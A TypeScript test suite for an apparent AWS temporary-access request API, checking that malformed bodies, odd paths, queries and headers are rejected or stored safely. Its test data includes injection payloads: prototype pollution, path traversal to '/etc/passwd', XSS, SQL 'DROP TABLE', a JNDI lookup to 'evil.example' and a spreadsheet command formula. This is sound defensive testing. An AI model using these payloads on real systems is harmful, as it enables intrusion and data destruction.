import { ana, askFor, chidi, emeka, keiko, openDoors, prodPayments, wren, zoe, type Answered, type Doors } from './doors.ts';

let doors: Doors;
beforeAll(async () => {
  doors = await openDoors();
});
afterAll(() => doors.close());
// Time stands still within a test; between two, AWS may be asked anew as often as it allows in a second.
beforeEach(() => doors.settled());

const good = (more: object = {}): object => askFor(doors, '624177419051', 'ReadOnlyAccess', more);
const events = (): number => doors.world.events().length;
const code = ({ status, body }: Answered): readonly unknown[] => [status, body['code']];

describe('bodies that are none', () => {
  it.each([
    ['nothing', ''],
    ['half of one', '{"targets":[{'],
    ['a string', '"ask"'],
    ['a number', '1e999'],
    ['two of them', '{}{}'],
    ['a mark before it', '\ufeff{"durationMinutes":60'],
    ['comments', '{/* x */"durationMinutes":60}'],
    ['NUL', '{"durationMinutes":60}\u0000'],
    ['a script', '<script>alert(1)</script>'],
    ['a form', 'targets=x&durationMinutes=60'],
    ['lists in lists, 30,000 deep', `${'['.repeat(30_000)}${']'.repeat(30_000)}`],
    ['objects in objects, 10,000 deep', `${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}`],
    ['a field, 10,000 deep', `{"targets":${'['.repeat(10_000)}${']'.repeat(10_000)},"durationMinutes":60}`],
    ['3,000 fields that are not there', JSON.stringify(Object.fromEntries(Array.from({ length: 3_000 }, (_, place) => [`field ${place}`, 1])))],
  ])('%s', async (_what, body) => {
    const before = events();
    const answer = await doors.as(zoe, '/v1/requests', { body });
    expect(code(answer)).toEqual([400, expect.stringMatching(/^ERR_(BODY|INPUT)_INVALID$/)]);
    expect(answer.text.length).toBeLessThan(20_000);
    expect(events()).toBe(before);
  });
});

it('nobody asks in the name of somebody else', async () => {
  const before = events();
  expect(code(await doors.as(chidi, '/v1/requests', { body: good({ askedBy: ana }) }))).toEqual([400, 'ERR_ASKED_BY']);
  expect(events()).toBe(before);
});

describe('fields that are not what they seem', () => {
  const target = (): Readonly<Record<string, unknown>> => ({ accountId: prodPayments, permissionSetArn: doors.world.permissionSet('ReadOnlyAccess').PermissionSetArn });

  it.each<[string, () => object | string]>([
    ['a requester of its own', () => good({ requester: ana })],
    ['a person of its own', () => good({ userId: doors.world.user(ana).UserId })],
    ['groups', () => good({ groups: ['TEAM Admins'] })],
    ['a decision along with it', () => good({ status: 'approved', approvalRequired: false })],
    ['__proto__', () => `${JSON.stringify(good()).slice(0, -1)},"__proto__":{"breakGlass":true}}`],
    ['__proto__ of a target', () => JSON.stringify({ ...good(), targets: [] }).replace('[]', `[${JSON.stringify(target()).slice(0, -1)},"__proto__":{"x":1}}]`)],
    ['constructor', () => good({ constructor: { prototype: { auditor: true } } })],
    ['a number as text', () => good({ durationMinutes: '60' })],
    ['part of a minute', () => good({ durationMinutes: 0.5 })],
    ['no time at all', () => good({ durationMinutes: 0 })],
    ['less than no time', () => good({ durationMinutes: -60 })],
    ['for ever', () => JSON.stringify(good()).replace('"durationMinutes":60', '"durationMinutes":1e400')],
    ['a day that is none', () => good({ startAt: '2026-02-30T09:00:00Z' })],
    ['a time elsewhere', () => good({ startAt: '2026-03-03T09:00:00+14:00' })],
    ['digits that are not ASCII', () => good({ targets: [{ ...target(), accountId: '８３６４２３６３０７５６' }] })],
    ['an account with an end of line', () => good({ targets: [{ ...target(), accountId: `${prodPayments}\n` }] })],
    ['an account in a list', () => good({ targets: [{ ...target(), accountId: [prodPayments] }] })],
    ['a path as permission set', () => good({ targets: [{ ...target(), permissionSetArn: `${String(target()['permissionSetArn'])}/../x` }] })],
    ['a NUL in the permission set', () => good({ targets: [{ ...target(), permissionSetArn: `${String(target()['permissionSetArn'])}\u0000` }] })],
    ['51 targets', () => good({ targets: Array.from({ length: 51 }, target) })],
    ['no target', () => good({ targets: [] })],
    ['an id in capitals', () => good({ requestId: doors.world.newId().toUpperCase() })],
    ['an id with more behind it', () => good({ requestId: `${doors.world.newId()}#all` })],
    ['a list as name', () => good({ for: [wren] })],
    ['an object as name', () => good({ for: { toString: wren } })],
    ['words without end', () => good({ justification: 'x'.repeat(2_001) })],
    ['a ticket without end', () => good({ ticket: 'x'.repeat(129) })],
    ['null for nothing', () => good({ ticket: null })],
  ])('%s', async (_what, body) => {
    const before = events();
    expect(code(await doors.as(chidi, '/v1/requests', { body: body() }))).toEqual([400, 'ERR_INPUT_INVALID']);
    expect(events()).toBe(before);
    expect(Object.prototype).not.toHaveProperty('breakGlass');
    expect({}).not.toHaveProperty('auditor');
  });

  it('that stand twice count once, as the last of them', async () => {
    const answer = await doors.as(zoe, '/v1/preview', { body: JSON.stringify(good()).replace('"durationMinutes":60', '"durationMinutes":99999999,"durationMinutes":60') });
    expect(answer.status).toBe(200);
  });
});

describe('odd paths and questions', () => {
  const ids = ['%00', '..', '..%2f..%2fme', '%2e%2e', 'a'.repeat(5_000), '１２３４５６７８-0000-4000-8000-000000000000', '018F6B7A-0000-7000-8000-000000000001', '018f6b7a-0000-7000-8000-000000000001%00', '018f6b7a-0000-7000-8000-000000000001%0a', '018f6b7a-0000-7000-8000-000000000001;x', '%E0%A4%A', '*', '{id}', '__proto__', 'constructor'];

  it.each(ids)('id %s', async (id) => {
    for (const [path, body] of [['', undefined], ['/end', {}], ['/decisions', { verdict: 'approve' }], ['/review', { verdict: 'justified' }]] as const) {
      const answer = await doors.as(emeka, `/v1/requests/${id}${path}`, body === undefined ? {} : { body });
      // `..` is taken out of a path before it is sent, which leads to other routes, as any caller may name them.
      const elsewhere = /^(\.\.|%2e%2e)$/.test(id) && path === '';
      expect([path, answer.status, [400, 404, 405, 415].includes(answer.status) || elsewhere]).toEqual([path, answer.status, true]);
    }
  });

  it.each(['limit=0', 'limit=-1', 'limit=1e9', 'limit=NaN', 'limit=201', 'list=__proto__', 'list=constructor', 'list=all%00', 'list=mine&list=all', 'limit=1&limit=200', 'status=toString', 'accountId=x', 'after=%00', 'after=', `after=${'a'.repeat(513)}`, 'after=2026-01-01T00:00:00.000Z%23x', 'after=all%23018f6b7a-0000-7000-8000-000000000001', `person=${'x'.repeat(129)}`])('of a list: %s', async (question) => {
    expect((await doors.as(keiko, `/v1/requests?${question}`)).status).toBe(400);
  });

  it.each(['person=%00', 'person=__proto__', 'person=%25', 'person=all', 'person=%23all', 'unknown=1', 'constructor=1'])('of a list, harmless: %s', async (question) => {
    const answer = await doors.as(keiko, `/v1/requests?${question}`);
    expect([answer.status, answer.body['items']]).toEqual([200, []]);
  });

  it.each(['after=x', 'after=%00', `after=${Buffer.from('x y').toString('base64url')}`, 'limit=1001', `search=${'x'.repeat(129)}`])('of what may be asked for: %s', async (question) => {
    expect((await doors.as(wren, `/v1/askable?${question}`)).status).toBe(400);
  });

  it.each(['search=%00', 'search=.*', 'search=(((((', 'search=%5B', 'search=%25', `search=${encodeURIComponent('a '.repeat(64))}`])('of what may be asked for, found nowhere: %s', async (question) => {
    expect(await doors.as(wren, `/v1/askable?${question}`)).toMatchObject({ status: 200 });
  });
});

describe('odd headers', () => {
  it.each(['application/json, text/plain', 'text/plain, application/json', 'application/json ; x=y', 'application/json;', 'application/json;x', 'application/json; =', 'application/json\t;x=y', 'text/plain;application/json', 'application/json+x', 'application/x-json', 'text/json', 'multipart/form-data; boundary=application/json'])('a body of %j is none', async (type) => {
    expect(code(await doors.as(zoe, '/v1/requests', { body: good(), headers: { 'content-type': type } }))).toEqual([415, 'ERR_NOT_JSON']);
  });

  it.each(['application/json', 'APPLICATION/JSON', 'application/json;charset=utf-7', ' application/json; x=y '])('a body of %j is read as UTF-8, whatever else is said', async (type) => {
    expect((await doors.as(zoe, '/v1/preview', { body: good(), headers: { 'content-type': type } })).status).toBe(200);
  });

  it('that name another method change nothing', async () => {
    const before = events();
    for (const name of ['x-http-method-override', 'x-method-override', 'x-http-method']) {
      expect((await doors.as(wren, '/v1/requests', { headers: { [name]: 'POST' } })).status).toBe(200);
      expect((await doors.as(wren, '/v1/requests?_method=POST')).status).toBe(200);
    }
    expect(events()).toBe(before);
  });

  it('that come by a proxy neither name a person nor stretch how often they may call', async () => {
    const statuses: number[] = [];
    for (let sent = 0; sent < 64; sent += 1) {
      const headers = { 'x-forwarded-for': `10.0.0.${sent}`, 'x-real-ip': `10.0.1.${sent}`, forwarded: `for=10.0.2.${sent}`, 'cf-connecting-ip': `10.0.3.${sent}`, 'user-agent': `agent ${sent}`, 'x-forwarded-user': zoe };
      // The same person by another spelling, another token, another address.
      const userName = sent % 2 === 0 ? keiko : keiko.toUpperCase();
      statuses.push((await doors.as(userName, '/v1/requests', { body: good({ justification: `${sent}` }), headers, claims: { jti: `${sent}`, client_id: `client ${sent}` } })).status);
    }
    expect(statuses).toEqual([...Array.from({ length: 60 }, () => 202), 429, 429, 429, 429]);
  });
});

describe('texts that are odd, and allowed', () => {
  it('are at least texts', async () => {
    for (const half of ['\ud800', 'x\udc00x']) expect(code(await doors.as(wren, '/v1/requests', { body: good({ justification: half }) }))).toEqual([400, 'ERR_INTENT_INVALID']);
  });

  it('reach who reads them as they were written, and the trail holds', async () => {
    const words = ['\u0000 NUL', '\u202egnp.exe', '"><script>alert(1)</script>', "'; DROP TABLE requests; --", '${jndi:ldap://evil.example/a}', '{{7*7}}', '../../etc/passwd', '\ufeff\u200b', '=cmd|calc!A0', '\u{1F600}'.repeat(1_000)];
    const body = (justification: string, place: number) => askFor(doors, prodPayments, 'ReadOnlyAccess', { justification, ticket: justification.slice(0, 40), startAt: new Date(doors.world.now() + (place + 1) * 7_200_000).toISOString() });
    for (const [place, justification] of words.entries()) {
      const requestId = await doors.asked(wren, body(justification, place));
      const { body: detail, status } = await doors.as(emeka, `/v1/requests/${requestId}`);
      expect([status, detail]).toEqual([200, expect.objectContaining({ row: expect.objectContaining({ justification }) })]);
    }
    expect(await doors.world.system.invoke('team-audit-query', { op: 'verify' })).toMatchObject({ problems: [] });
  });
});
